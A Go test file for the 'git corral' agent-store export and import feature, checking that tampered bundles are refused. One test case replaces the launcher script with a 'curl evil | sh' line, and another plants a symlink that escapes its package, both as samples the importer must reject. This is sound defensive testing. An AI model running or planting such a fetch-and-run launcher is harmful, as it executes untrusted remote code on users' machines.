package agents

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/git-corral/git-corral/internal/exportfile"
)

// freshStore is an empty store in a new $CORRAL_HOME whose npm does not exist: whatever it
// runs comes from an import.
func freshStore(t *testing.T, p Platform) (*Store, string) {
	t.Helper()
	home := t.TempDir()
	s := Open(home, Options{Npm: filepath.Join(home, "no-npm-here"), Platform: p, Now: func() time.Time { return testNow }})
	s.agents = []Agent{testAgent}
	return s, home
}

// TestAgentsExportImportRoundTrip: a store exported on one host imports into a fresh
// $CORRAL_HOME with no registry, verifies clean, and its agent runs through its launcher
// without npm being run.
func TestAgentsExportImportRoundTrip(t *testing.T) {
	s, _, _ := installedWithLinks(t)
	file := filepath.Join(t.TempDir(), "agents.corral")
	names, err := s.Export(context.Background(), file)
	if err != nil || len(names) != 2 {
		t.Fatalf("Export = %v, %v; want codex and node", names, err)
	}
	s2, home2 := freshStore(t, LinuxX64)
	installed, present, err := s2.Import(context.Background(), file, nil)
	if err != nil || len(installed) != 2 || len(present) != 0 {
		t.Fatalf("Import = %v, %v, %v; want both entries installed", installed, present, err)
	}
	if del, err := s2.Verify(context.Background(), nil); err != nil || len(del) != 0 {
		t.Fatalf("Verify after import deleted %v, %v; want a clean store", del, err)
	}
	inst, err := s2.Ensure(context.Background(), testAgent, "", nil)
	if err != nil {
		t.Fatalf("Ensure after import (no npm): %v", err)
	}
	out, err := exec.Command(inst.Launcher, "--version").CombinedOutput()
	want := "node " + filepath.Join(StoreDir(home2), "codex", "1.0.0", "node_modules", "@example", "agent", "bin", "agent.js") + " --version\n"
	if err != nil || string(out) != want {
		t.Errorf("imported launcher printed %q, %v; want %q", out, err, want)
	}
	if _, present, err := s2.Import(context.Background(), file, nil); err != nil || len(present) != 2 {
		t.Errorf("second import: present %v, %v; want both already there", present, err)
	}
	if left, _ := filepath.Glob(filepath.Join(Dir(home2), ".import-*")); len(left) != 0 {
		t.Errorf("staging left behind: %v", left)
	}
}

// rawExport writes store (changed by change, on a copy) with exportfile directly, as an older
// or hostile git corral could: the file's own digests are consistent, so only the store's
// checks on import can refuse it.
func rawExport(t *testing.T, store string, change func(copy string)) string {
	t.Helper()
	cp := copyTree(t, store)
	filepath.Walk(store, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() {
			rel, _ := filepath.Rel(store, p)
			os.Chtimes(filepath.Join(cp, rel), fi.ModTime(), fi.ModTime())
		}
		return nil
	})
	if change != nil {
		change(cp)
	}
	entries, err := exportfile.Scan(context.Background(), cp, true, nil)
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "raw.corral")
	if err := exportfile.Write(context.Background(), file, ExportKind, exportMeta{Platform: LinuxX64}, cp, entries); err != nil {
		t.Fatal(err)
	}
	return file
}

// TestAgentsImportRefuses: a changed byte, a truncated file, another platform, and a bundle
// whose digests are consistent but whose store fails `agents verify`'s checks (a file that
// differs from its entry's manifest, a link leaving its package, a launcher changed, something
// git corral never puts in a store) are each refused with nothing installed; the controls (the
// same export unchanged, an unchanged raw export) install.
func TestAgentsImportRefuses(t *testing.T) {
	s, _, _ := installedWithLinks(t)
	store := StoreDir(s.home)
	good := filepath.Join(t.TempDir(), "agents.corral")
	if _, err := s.Export(context.Background(), good); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(good)
	if err != nil {
		t.Fatal(err)
	}
	at := strings.Index(string(b), "console.log('agent')")
	changed := append([]byte(nil), b...)
	changed[at] ^= 1
	write := func(name string, c []byte) string {
		p := filepath.Join(t.TempDir(), name)
		os.WriteFile(p, c, 0o644)
		return p
	}
	pkg := filepath.Join("codex", "1.0.0", "node_modules", "@example", "agent")
	for _, tc := range []struct {
		name, src string
		plat      Platform
		is        error
		want      string
	}{
		{"changed byte", write("changed", changed), LinuxX64, exportfile.ErrChanged, "bin/agent.js has sha256"},
		{"truncated", write("cut", b[:len(b)/2]), LinuxX64, exportfile.ErrTruncated, "copy it again"},
		{"another platform", good, LinuxArm64, ErrPlatform, `"linux-x64" guests`},
		{"file differs from its manifest", rawExport(t, store, func(cp string) {
			p := filepath.Join(cp, pkg, "src", "a", "b.js")
			keepTimes(t, p, func() { os.WriteFile(p, []byte("c\n"), 0o644) })
		}), LinuxX64, ErrTampered, `src/a/b.js" changed`},
		{"link leaving its package", rawExport(t, store, func(cp string) {
			os.Remove(filepath.Join(cp, pkg, "alias"))
			os.Symlink("../../../../../node", filepath.Join(cp, pkg, "alias"))
		}), LinuxX64, ErrTampered, "codex@1.0.0"},
		{"launcher changed", rawExport(t, store, func(cp string) {
			os.WriteFile(filepath.Join(cp, "bin", "codex"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
		}), LinuxX64, ErrTampered, "bin/codex"},
		{"something never in a store", rawExport(t, store, func(cp string) {
			os.Mkdir(filepath.Join(cp, "extra"), 0o755)
		}), LinuxX64, ErrTampered, "extra"},
		{"control: the export", good, LinuxX64, nil, ""},
		{"control: raw export unchanged", rawExport(t, store, nil), LinuxX64, nil, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s2, home2 := freshStore(t, tc.plat)
			installed, _, err := s2.Import(context.Background(), tc.src, nil)
			if tc.is == nil {
				if err != nil || len(installed) != 2 {
					t.Fatalf("Import = %v, %v; want both entries installed", installed, err)
				}
				return
			}
			if !errors.Is(err, tc.is) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), tc.src) {
				t.Fatalf("Import = %v; want %v naming %q and the file", err, tc.is, tc.want)
			}
			if ents, _ := os.ReadDir(StoreDir(home2)); len(ents) != 0 {
				t.Errorf("refused import left %v in the store", ents)
			}
		})
	}
}

// TestAgentsExportRefusesFailingStore: a store that fails `agents verify` is not exported, and
// the error names the command that repairs it; the control, the same store unchanged, exports.
func TestAgentsExportRefusesFailingStore(t *testing.T) {
	s, home, _ := installedWithLinks(t)
	if _, err := s.Export(context.Background(), filepath.Join(t.TempDir(), "ok.corral")); err != nil {
		t.Fatalf("control: Export = %v", err)
	}
	p := filepath.Join(StoreDir(home), "codex", "1.0.0", "node_modules", "@example", "agent", "src", "a", "b.js")
	keepTimes(t, p, func() { os.WriteFile(p, []byte("c\n"), 0o644) })
	dst := filepath.Join(t.TempDir(), "bad.corral")
	_, err := s.Export(context.Background(), dst)
	if !errors.Is(err, ErrTampered) || !strings.Contains(err.Error(), "git corral agents verify") {
		t.Fatalf("Export of a changed store = %v, want ErrTampered naming agents verify", err)
	}
	if _, err := os.Stat(dst); err == nil {
		t.Errorf("a refused export left %s", dst)
	}
}
